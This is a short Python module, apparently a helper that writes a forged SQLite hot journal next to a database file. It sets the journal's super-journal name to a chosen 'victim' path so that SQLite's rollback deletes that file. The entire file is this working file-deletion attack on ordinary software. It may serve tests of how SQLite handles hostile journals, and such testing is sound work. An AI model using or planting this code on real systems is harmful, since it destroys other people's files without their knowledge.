"""Hot journals of SQLite, as a stranger makes them."""

import struct

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_PAGE, _SECTOR = 4_096, 512


def write_hot_journal(database, victim):
    """
    Write a journal beside a database: SQLite rolls it back, and then deletes `victim`.

    It does not delete an empty file.
    """
    pages = database.stat().st_size // _PAGE
    head = _MAGIC + struct.pack(">IIIII", 0, 0, pages, _SECTOR, _PAGE)
    name = str(victim).encode()
    locking_page = 0x40000000 // _PAGE + 1
    tail = struct.pack(">I", locking_page) + name + struct.pack(">II", len(name), sum(name))
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(head.ljust(_SECTOR, b"\0") + tail + _MAGIC)
    return journal
